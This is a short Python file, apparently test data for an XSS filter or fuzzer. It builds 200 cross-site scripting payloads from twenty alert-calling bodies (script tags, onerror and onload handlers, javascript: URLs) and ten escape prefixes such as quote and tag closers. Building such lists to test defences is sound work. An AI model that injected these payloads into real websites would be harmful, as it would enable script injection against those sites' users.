"""Two hundred strings that would run if anything wrote them into a page as they are; each calls `alert`."""

BODIES = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert`1`>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<details open ontoggle=alert(1)>", "javascript:alert(1)",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>", "<style>@import'javascript:alert(1)'</style>",
    "<object data=data:text/html,<script>alert(1)</script>>", "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>", "<base href=javascript:alert(1)//>", "{{alert(1)}}${alert(1)}",
    "<marquee onstart=alert(1)>", "<form action=javascript:alert(1)><button>x", "<link rel=import href=data:,alert(1)>",
)  # fmt: skip
WAYS_OUT = ("", "\">", "'>", "</script>", "</title></textarea>", "-->", "]]>", "&#34;>", "\u202e", "` ")  # fmt: skip
HOSTILE = tuple(out + body for out in WAYS_OUT for body in BODIES)
